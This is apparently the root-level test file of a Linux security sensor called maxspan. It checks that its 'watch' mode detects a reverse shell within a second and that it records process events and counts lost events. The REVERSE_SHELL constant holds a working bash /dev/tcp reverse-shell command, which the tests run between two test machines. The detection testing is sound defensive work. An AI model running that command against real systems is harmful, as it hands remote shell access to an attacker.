"""`maxspan watch` and `maxspan record` on this very host, as a user starts them."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.sensor.machines import shell_over, two_machines

from maxspan.api import scan
from maxspan.errors import SensorError
from maxspan.rules.load import load_rules
from maxspan.sensor.audit.backend import AuditBackend
from maxspan.sensor.bpf_backend import BpfBackend
from maxspan.sensor.entity import EntityIds
from maxspan.sensor.machine import read_machine
from maxspan.sensor.procfs import read_stat

pytestmark = pytest.mark.root
EXPECTED = {"Shell Reads Its Commands from a Network Socket", "Potential Reverse Shell"}
REVERSE_SHELL = ("bash", "-c", "bash -i >& /dev/tcp/10.77.0.1/4242 0>&1")


@pytest.fixture(autouse=True)
def bpf() -> None:
    backend = BpfBackend()
    try:
        backend.start()
    except SensorError as error:
        pytest.skip(f"this host does not allow BPF: {error}")
    finally:
        backend.close()


class Command:
    """A running command of maxspan: `alerts` holds what it printed, each with the time at which it came."""

    def __init__(self, *args: str) -> None:
        self.process = subprocess.Popen(
            [sys.executable, "-m", "maxspan.cli.main", *args],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            stdin=subprocess.DEVNULL,
            text=True,
        )
        self.alerts: list[tuple[float, dict[str, Any]]] = []
        self.told: list[str] = []
        self._threads = [threading.Thread(target=one, daemon=True) for one in (self._read_alerts, self._read_told)]
        for thread in self._threads:
            thread.start()

    def _read_alerts(self) -> None:
        assert self.process.stdout is not None
        for line in self.process.stdout:
            self.alerts.append((time.time(), json.loads(line)))

    def _read_told(self) -> None:
        assert self.process.stderr is not None
        self.told.extend(self.process.stderr)

    def until(self, done: Callable[[], bool], seconds: float = 20) -> None:
        end = time.monotonic() + seconds
        while not done():
            assert time.monotonic() < end and self.process.poll() is None, "".join(self.told)
            time.sleep(0.02)

    def ready(self) -> Command:
        self.until(lambda: any(line.startswith("watching through") for line in self.told), 60)
        return self

    def end(self, number: int = signal.SIGINT) -> int:
        if self.process.poll() is None:
            self.process.send_signal(number)
        status = self.process.wait(30)
        self.close()
        return status

    def close(self) -> None:
        if self.process.poll() is None:
            self.process.kill()
            self.process.wait()
        for thread in self._threads:
            thread.join(5)
        for pipe in (self.process.stdout, self.process.stderr):
            if pipe is not None:
                pipe.close()

    def names(self) -> set[str]:
        return {alert["kibana.alert.rule.name"] for _, alert in self.alerts}


@pytest.fixture
def command() -> Iterator[Callable[..., Command]]:
    started: list[Command] = []

    def start(*args: str) -> Command:
        started.append(Command(*args))
        return started[-1]

    yield start
    for one in started:
        one.close()


def lines_of(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def of_pid(events: list[dict[str, Any]], pid: int) -> list[dict[str, Any]]:
    return [event for event in events if event.get("process", {}).get("pid") == pid]


def test_a_real_reverse_shell_gives_an_alert_within_a_second(command: Callable[..., Command], tmp_path: Path) -> None:
    events, alerts = tmp_path / "events", tmp_path / "alerts"
    files = ("--events", str(events), "--alerts", str(alerts))
    with two_machines() as (attacker, victim):
        watch = command("watch", "--backend", "bpf", "--format", "ndjson", *files).ready()
        delays = []
        for _ in range(3):  # a machine with other work may be slow once
            watch.alerts.clear()
            assert "uid=0" in shell_over(attacker, victim, *REVERSE_SHELL)
            watch.until(lambda: watch.names() >= EXPECTED)
            delays.append(max(alert["maxspan.detection_delay_ms"] for _, alert in watch.alerts))
            if min(delays) < 1000:
                break
        assert min(delays) < 1000
        status = watch.end()
    assert status == 0, "".join(watch.told)
    assert watch.names() >= EXPECTED
    assert all(alert["maxspan.lost_in_window"] == 0 for _, alert in watch.alerts)
    assert len(lines_of(alerts)) >= len(watch.alerts)
    assert ids_of(lines_of(alerts)) == ids_of(scan(load_rules(), str(events)))
    connections = [event for event in lines_of(events) if event["event"]["action"] == "connection_attempted"]
    assert any(
        event["destination"] == {"address": "10.77.0.1", "ip": "10.77.0.1", "port": 4242} for event in connections
    )
    ledger = lines_of(events)[-1]
    assert ledger["event"]["dataset"] == "maxspan.ledger"
    assert ledger["maxspan"]["ledger"]["balanced"] is True
    assert any("alerts:" in line for line in watch.told)


def ids_of(alerts: Iterable[dict[str, Any]]) -> set[str]:
    return {alert["kibana.alert.uuid"] for alert in alerts}


def test_audit_is_the_way_where_bpf_is_not_wanted(command: Callable[..., Command], tmp_path: Path) -> None:
    backend = AuditBackend()
    try:
        backend.start()
    except SensorError as error:
        pytest.skip(f"this host does not allow auditing: {error}")
    finally:
        backend.close()
    with two_machines() as (attacker, victim):
        watch = command("watch", "--backend", "audit", "--format", "ndjson").ready()
        assert "uid=0" in shell_over(attacker, victim, *REVERSE_SHELL)
        watch.until(lambda: watch.names() >= {"Potential Reverse Shell"})
        assert watch.end() == 0
    assert any(line.startswith("not seen: disconnect_received") for line in watch.told)


def test_sigterm_ends_with_a_summary(command: Callable[..., Command]) -> None:
    watch = command("watch", "--backend", "bpf", "--format", "ndjson").ready()
    assert watch.end(signal.SIGTERM) == 0
    assert any(re.match(r"[0-9,]+ events? in ", line) for line in watch.told), watch.told


def test_events_of_a_process_hold_together(command: Callable[..., Command], tmp_path: Path) -> None:
    events = tmp_path / "events"
    watch = command("watch", "--backend", "bpf", "--events", str(events), "--env", "MAXSPAN_TEST").ready()
    child = subprocess.Popen(["/bin/sleep", "1"], env={"MAXSPAN_TEST": "yes", "OTHER": "no"})
    stat = read_stat(child.pid)
    child.wait()
    watch.until(lambda: any(e["event"]["action"] == "end" for e in of_pid(lines_of_whole(events), child.pid)))
    watch.end()
    assert stat is not None
    machine = read_machine()
    entity = EntityIds(machine.machine_id, machine.boot_id).of(child.pid, stat.ticks).decode()
    mine = [event for event in of_pid(lines_of(events), child.pid) if event["process"]["entity_id"] == entity]
    assert [event["event"]["action"] for event in mine] == ["fork", "exec", "end"]
    executed = mine[1]["process"]
    assert executed["parent"]["pid"] == os.getpid()
    assert executed["args"] == ["/bin/sleep", "1"]
    assert executed["env_vars"] == ["MAXSPAN_TEST=yes"]
    assert executed["working_directory"] == str(Path.cwd())
    assert len(executed["hash"]["sha256"]) == 64
    assert executed["previous"]["executable"] == str(Path("/proc/self/exe").readlink())
    running = [e for e in lines_of(events) if e["event"]["action"] == "already_running"]
    assert os.getpid() in {event["process"]["pid"] for event in running}
    own = [e for e in running if e["process"]["pid"] == watch.process.pid]
    assert own and all(event["maxspan"]["self"] is True for event in own)


def lines_of_whole(path: Path) -> list[dict[str, Any]]:
    """Read the lines that are complete by now."""
    return [json.loads(line) for line in path.read_bytes().split(b"\n")[:-1]] if path.exists() else []


def test_a_stopped_reader_loses_and_the_books_still_balance(command: Callable[..., Command], tmp_path: Path) -> None:
    events = tmp_path / "events"
    watch = command("watch", "--backend", "bpf", "--events", str(events), "--strict").ready()
    os.kill(watch.process.pid, signal.SIGSTOP)
    # Arguments of 16 kB fill the ring of 8 MiB soon.
    script = 'x=$(head -c 15000 /dev/zero | tr "\\0" x); for i in $(seq 1500); do /bin/true $x; done'
    subprocess.run(["bash", "-c", script], check=True)
    os.kill(watch.process.pid, signal.SIGCONT)
    watch.until(lambda: any("events were lost" in line for line in watch.told), 60)
    subprocess.run(["/bin/true"], check=True)
    assert watch.end() == 3
    assert any("lost in the kernel" in line for line in watch.told)
    ledger = lines_of(events)[-1]["maxspan"]["ledger"]
    assert ledger["balanced"] is True
    assert ledger["kinds"]["exec"]["lost"] > 0
    for kind in ledger["kinds"].values():
        assert kind["seen"] == kind["sent"] + kind["lost"]
        assert kind["received"] == kind["events"] + kind["used"] + kind["aside"]


def test_a_full_disk_is_told_and_the_watch_goes_on(command: Callable[..., Command], tmp_path: Path) -> None:
    watch = command("watch", "--backend", "bpf", "--format", "ndjson", "--events", "/dev/full").ready()
    program = Path("/dev/shm") / f"maxspan{os.getpid()}"
    program.write_bytes(Path("/bin/true").read_bytes())
    program.chmod(0o755)
    try:
        subprocess.run([str(program)], check=True)
        watch.until(lambda: any("Shared Memory" in name for name in watch.names()))
    finally:
        program.unlink()
    assert watch.end() == 0
    assert sum("cannot write events to /dev/full" in line for line in watch.told) == 1
    assert any("could not be written" in line for line in watch.told)


def test_a_command_is_recorded_with_all_that_it_starts(tmp_path: Path) -> None:
    trace = tmp_path / "trace.ndjson"
    line = [sys.executable, "-m", "maxspan.cli.main", "record", str(trace), "--", "bash", "-c", "ls / | wc -l; exit 7"]
    done = subprocess.run(line, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert "the command ended with status 7" in done.stderr
    events = lines_of(trace)
    executed = [event["process"]["name"] for event in events if event["event"]["action"] == "exec"]
    assert sorted(executed) == ["bash", "ls", "wc"]
    assert {event["process"]["parent"]["name"] for event in events if event["event"]["action"] == "exec"} >= {"bash"}


def test_without_capabilities_the_message_names_the_remedy() -> None:
    line = ["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", "--bounding-set", "-all"]
    done = subprocess.run(
        [*line, sys.executable, "-m", "maxspan.cli.main", "watch", "--seconds", "1"],
        capture_output=True,
        text=True,
        env={**os.environ, "HOME": "/nonexistent", "XDG_CACHE_HOME": "/nonexistent"},
    )
    if "Permission denied" in done.stderr and "CAP_BPF" not in done.stderr:
        pytest.skip("nobody may not read this checkout")
    assert done.returncode == 2
    assert "needs CAP_BPF, CAP_PERFMON, CAP_DAC_READ_SEARCH" in done.stderr
    assert "neither BPF nor audit can watch this host" in done.stderr
